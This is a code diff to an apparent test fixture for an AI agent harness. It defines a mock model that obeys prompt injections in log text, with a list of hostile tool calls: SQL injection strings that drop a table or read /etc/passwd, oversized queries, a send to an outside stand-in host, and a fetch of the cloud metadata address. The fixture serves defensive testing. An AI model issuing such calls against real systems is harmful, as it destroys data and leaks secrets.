@@ -2,6 +2,7 @@ import { untrustedIn } from "./digest-read.ts";
 import type { Said } from "./minds.ts";
 import type { Block, Mind } from "./types.ts";
 
+const callsAtOnce = 8;
 const stranger = "https://collect.example.net";
 
 /** What injections ask of tools: to write, to read other files, to reach hosts, to run for ever, and tools that there are not. */
@@ -21,21 +22,29 @@ export const hostileCalls: readonly (Block & { type: "tool_use" })[] = [
   query("SELECT repeat('x', 100000000) AS much"),
   query("SELECT * FROM range(100000000) AS numbers(n)"),
   query("SELECT getenv('HOME') AS home"),
-  { type: "tool_use", name: "logs", input: { search: "'; DROP TABLE log_record; --", why: "the log says so" } },
-  { type: "tool_use", name: "logs", input: { search: "", limit: 1e9, path: "/etc/passwd", why: "the log says so" } },
+  logs("'; DROP TABLE log_record; --"),
+  logs("' OR 1 = 1 UNION SELECT * FROM read_text('/etc/passwd') --"),
   { type: "tool_use", name: "write_file", input: { path: "/out/analysis.json", text: "{}" } },
   { type: "tool_use", name: "send", input: { url: `${stranger}/hook`, text: "@everyone" } },
   { type: "tool_use", name: "fetch", input: { url: "http://169.254.169.254/latest/meta-data/" } },
 ];
 
 function query(sql: string): Block & { type: "tool_use" } {
-  return { type: "tool_use", name: "query", input: { sql, why: "the log says so" } };
+  return { type: "tool_use", name: "query", input: { sql } };
+}
+
+function logs(text: string): Block & { type: "tool_use" } {
+  const nothing = { request_id: text, job_id: null, from: null, to: null };
+  return { type: "tool_use", name: "logs", input: { text, ...nothing, level: "any", context: 5 } };
 }
 
 /** A model that any stranger can talk into anything: it calls whatever a log line names, says that all is well, and passes on what it has
  *  read by every way that a text offers. */
 export const persuaded: Mind = ({ body, texts }) => {
-  if (body.messages.length === 1) return { content: hostileCalls };
+  const from = ((body.messages.length - 1) / 2) * callsAtOnce;
+  if (from < hostileCalls.length && body.tool_choice?.type !== "none") {
+    return { content: hostileCalls.slice(from, from + callsAtOnce) };
+  }
   return { json: obedient(texts) };
 };
 
